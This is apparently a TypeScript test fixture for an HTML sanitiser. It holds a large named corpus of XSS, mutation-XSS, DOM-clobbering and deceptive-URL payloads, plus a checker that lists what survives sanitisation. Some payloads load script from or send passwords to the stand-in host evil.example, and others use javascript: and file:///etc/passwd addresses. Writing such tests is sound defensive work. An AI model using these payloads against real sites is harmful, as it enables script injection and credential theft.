import { hostileHtml } from './hostile.ts';

/**
 * Hostile project details, each with the name of its trick: those of hostile.ts, and those that concern only text that
 * is shown as HTML. Code that runs calls `pwned()`; requests that leave the site go to `evil.example`.
 */
export interface Hostile {
  readonly name: string;
  readonly html: string;
}

const img = '<img src=x onerror=pwned()>';
const encoded = '&lt;img src=x onerror=pwned()&gt;';
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';

/** After a second reading browsers understand these differently than after the first. */
const mutating: readonly (readonly [string, string])[] = [
  [
    'mglyph in a form in a table',
    `<form><math><mtext></form><form><mglyph><style></math>${img}</style></form>`,
  ],
  [
    'style in svg in mglyph',
    `<math><mtext><table><mglyph><svg><mtext><style><path id="</style>${img}">`,
  ],
  ['title in svg in p', `<svg></p><title><a id="</title>${img}">`],
  ['style in math in p', `<math></p><style><!--</style><a id="--><img src=x onerror=pwned()>">`],
  ['svg closed by a br', `<svg><br><style><a title="</style>${img}"></svg>`],
  ['math closed by a p', `<math><p><style><a title="</style>${img}"></math>`],
  ['noscript in a style', `<style><noscript></style>${img}</noscript>`],
  ['noscript in an attribute', `<p id="</noscript>${img}"><noscript></p>`],
  ['iframe in a title', `<title><iframe></title>${img}</iframe>`],
  ['textarea in svg', `<svg><textarea><a title="</textarea>${img}"></svg>`],
  ['xmp in math', `<math><xmp><a title="</xmp>${img}"></math>`],
  ['template in template', `<template><template></template>${img}</template>`],
  ['template with a form', `<template><form><template>${img}`],
  ['select with a template', `<select><template><style><!--</style><a rel="--></select>${img}">`],
  ['select in math', `<math><select><mtext><style></select>${img}</style></math>`],
  ['option in svg in select', `<select><option><svg><style></select>${img}`],
  ['annotation-xml as html', `<math><annotation-xml encoding="text/html"><style>${img}</style>`],
  [
    'annotation-xml as xhtml',
    `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${img}`,
  ],
  ['foreignObject in math', `<math><foreignObject><p><style>${img}</style></p></foreignObject>`],
  [
    'foreignObject with noscript',
    `<svg><foreignObject><noscript><p title="</noscript>${img}"></foreignObject>`,
  ],
  ['desc with math', `<svg><desc><math><mi><style>${img}</style></mi></math></desc></svg>`],
  ['cdata in svg', `<svg><![CDATA[></svg>${img}]]>`],
  ['cdata in math', `<math><![CDATA[<!--]]><img title="--></math>${img}">`],
  ['encoded in an attribute of svg', `<svg><style>${encoded}</style></svg>`],
  ['encoded in a textarea', `<textarea>${encoded}</textarea>`],
  ['encoded in a title', `<p title="${encoded}">x</p>`],
  ['a link in a link in a table', `<a href="/"><table><a href="javascript:pwned()">x</a></table>`],
  ['a form in a form', `<form id=a><div></form><form id=b action="javascript:pwned()"><input>`],
  ['a table that throws out its content', `<table>${img}<tr><script>pwned()</script></tr></table>`],
  ['deep nesting', `${'<div>'.repeat(600)}${img}${'</div>'.repeat(600)}`],
  ['deep nesting of formats', `${'<b><i>'.repeat(300)}<svg onload=pwned()>`],
  ['deep nesting of foreign elements', `${'<svg><desc>'.repeat(60)}${img}`],
  ['an unfinished attribute', '<p title="<img src=x onerror=pwned()>'],
  ['an unfinished comment', `<p>x</p><!-- ${img}`],
  ['a comment that ends early', `<!-- > ${img} -->`],
  ['a conditional comment', `<!--[if true]>${img}<![endif]-->`],
  ['a downlevel-revealed comment', `<![if true]>${img}<![endif]>`],
  ['a doctype with an entity', `<!DOCTYPE x [<!ENTITY y "${encoded}">]>&y;`],
  ['a processing instruction', `<?xml-stylesheet href="javascript:pwned()"?>${img}`],
];

/** Elements and attributes that act by themselves, or look like part of the page. */
const acting: readonly (readonly [string, string])[] = [
  ['svg animate of a link', '<svg><a><animate attributeName=href to=javascript:pwned() /></a>'],
  ['svg set of a handler', '<svg><set attributeName=onclick to=pwned() /></svg>'],
  ['svg animate of xlink:href', `<svg ${xlink}><animate xlink:href=#x attributeName=href />`],
  ['svg script with a namespace', `<svg ${xlink}><script xlink:href="https://evil.example/x.js"/>`],
  ['svg use of another site', '<svg><use href="https://evil.example/x.svg#x"/></svg>'],
  ['svg filter of another site', '<svg><filter><feImage href="https://evil.example/x"/></filter>'],
  ['a prefixed script', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>'],
  ['speculation rules', '<script type=speculationrules>{"prefetch":[{"urls":["/"]}]}</script>'],
  ['json in a script', '<script type=application/json>{}</script>'],
  ['a script in an unknown element', '<x-a><script>pwned()</script></x-a>'],
  ['a declarative shadow root', `<div><template shadowrootmode=open>${img}</template></div>`],
  ['a command button', '<button commandfor=main command=show-modal>x</button>'],
  ['a popover', '<p popover=auto id=x>x</p><button popovertarget=x>x</button>'],
  ['a form that phishes', '<form action=https://evil.example><input type=password></form>'],
  ['a field of the page’s form', '<input form=search name=q><label for=search>x</label>'],
  ['editable text', '<p contenteditable autofocus onfocus=pwned()>x</p>'],
  ['a place in the tab order', '<p tabindex=1 onfocus=pwned() autofocus>x</p>'],
  ['an access key', '<a href="/" accesskey=x onclick=pwned()>x</a>'],
  ['a role', '<p role=alert aria-live=assertive>Sign in again</p>'],
  ['an aria label', '<p aria-label="Sign in" aria-hidden=true>x</p>'],
  ['hidden text', '<p hidden>x</p><p inert>x</p>'],
  ['a class of ours', '<p class="fixed inset-0 z-30 bg-surface">Sign in</p>'],
  ['a style', '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>'],
  ['an id of ours', '<p id=root>x</p><p id=main>x</p>'],
  ['a part and a slot', '<p part=x slot=y exportparts=z>x</p>'],
  ['data attributes', '<p data-theme=dark data-testid=x>x</p>'],
  ['micro data', '<p itemscope itemtype=https://evil.example itemprop=url>x</p>'],
  ['a nonce', '<p nonce=x>x</p>'],
  ['an old background', '<td background=https://evil.example/x>x</td>'],
  ['old sizes', '<table width=9999 height=9999><td width=9999 height=9999>x</td></table>'],
  ['long descriptions', '<img src="/x" longdesc=javascript:pwned() lowsrc=javascript:pwned()>'],
  ['a dynamic source', '<img dynsrc=javascript:pwned() src="/x">'],
  ['a source set', '<img src="/x" srcset="https://evil.example/x 1x" sizes=100vw>'],
  ['a fetch priority', '<img src="/x" fetchpriority=high crossorigin=use-credentials>'],
  ['a form action in an image', '<input type=image formaction=javascript:pwned()>'],
  ['a quotation’s source', '<q cite=javascript:pwned()>x</q><blockquote cite=javascript:pwned()>'],
  ['a moving text', '<marquee onfinish=pwned() loop=1>x</marquee>'],
  ['a layer', '<layer src=https://evil.example></layer><ilayer src=x></ilayer>'],
  ['a frame', '<frame src=https://evil.example><noframes></noframes>'],
  ['a sound', '<bgsound src=https://evil.example/x.mp3>'],
  ['a canvas and a meter', '<canvas></canvas><meter value=1></meter><progress></progress>'],
  ['a viewport', '<meta name=viewport content="width=1">'],
  ['robots', '<meta name=robots content=noindex>'],
  ['a title for the tab', '<title>Other</title>'],
  ['a manifest', '<link rel=manifest href=https://evil.example/x>'],
];

/** Names that would confuse a page's own code: those of `document`, of forms and of nodes. */
const clobbering = [
  ...['body', 'cookie', 'location', 'forms', 'getElementById', 'querySelector', 'defaultView'],
  ...['createElement', 'documentElement', 'children', 'childNodes', 'attributes', 'nodeName'],
  ...['parentNode', 'firstChild', 'innerHTML', 'removeAttribute', '__proto__', 'constructor'],
].flatMap((name): (readonly [string, string])[] => [
  [`clobbering ${name} by name`, `<img name=${name} src="/x"><a name=${name} id=${name}>x</a>`],
  [`clobbering ${name} in a form`, `<form name=${name}><input name=${name} id=${name}></form>`],
]);

/** Addresses that look like paths of this site and lead elsewhere, or lead where no link should. */
const addresses = [
  ...[
    '//evil.example',
    '///evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
  ],
  ...['/\n/evil.example', '\u0000//evil.example', 'https:evil.example', 'https:/evil.example'],
  ...[
    'file:///etc/passwd',
    'ftp://evil.example',
    'ws://evil.example',
    'tel:1',
    'sms:1',
    'intent:x',
  ],
  ...[
    'chrome://settings',
    'about:blank',
    'about:srcdoc',
    'ms-msdt:/id',
    'x:x',
    '?x',
    '#x',
    'x',
    '',
  ],
  ...['https://', 'https://[', 'javascript&lpar;pwned()', 'https&#9;:x'],
  ...[
    '\u202ehttps://evil.example',
    'ｊavascript:pwned()',
    'javaſcript:pwned()',
    'ma\u0000ilto:a@b',
  ],
].flatMap((address): (readonly [string, string])[] => [
  [`a link to ${JSON.stringify(address)}`, `<a href="${address}">link</a>`],
  [`a picture from ${JSON.stringify(address)}`, `<img alt="picture" src="${address}">`],
]);

export const hostileDetails: readonly Hostile[] = [
  ...hostileHtml.map((html) => ({ name: html, html })),
  ...[...mutating, ...acting, ...clobbering, ...addresses].map(([name, html]) => ({ name, html })),
];

/**
 * Finds everything in `root` that sanitised details may not contain; nothing if they are harmless. It states the rules
 * a second time, apart from the code under test. It uses nothing from outside, so that it can be passed to a browser.
 */
export function whatSurvived(root: ParentNode): string[] {
  const allowed: Record<string, string> = {
    a: 'href title target rel',
    img: 'src alt title width height loading decoding referrerpolicy',
    ol: 'start',
    th: 'colspan rowspan',
    td: 'colspan rowspan',
    button: 'type aria-label aria-haspopup data-picture',
    div: 'role aria-label tabindex',
    ...Object.fromEntries(
      `h2 h3 h4 h5 h6 p br hr blockquote pre ul li dl dt dd figure figcaption strong b em i s del ins u
      mark small sub sup q cite code kbd samp table caption thead tbody tfoot tr span`
        .split(/\s+/)
        .map((tag) => [tag, '']),
    ),
  };
  const here = 'https://fieldnotes.test/projects/x';
  const isFine = (address: string, schemes: string[]) =>
    URL.canParse(address, here) &&
    schemes.includes(new URL(address, here).protocol) &&
    (/^(https?:\/\/|mailto:)/i.test(address) || new URL(address, here).host === 'fieldnotes.test');
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = element.localName;
    const names = allowed[tag];
    if (names === undefined || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      return [`<${tag}>`];
    return [...element.attributes].flatMap(({ name, value }) => {
      if (!names.split(' ').includes(name)) return [`<${tag} ${name}>`];
      const isBad =
        (name === 'href' && !isFine(value, ['http:', 'https:', 'mailto:'])) ||
        (name === 'src' && !isFine(value, ['http:', 'https:'])) ||
        (name === 'role' && value !== 'group') ||
        (name === 'tabindex' && value !== '0');
      return isBad ? [`<${tag} ${name}="${value}">`] : [];
    });
  });
}
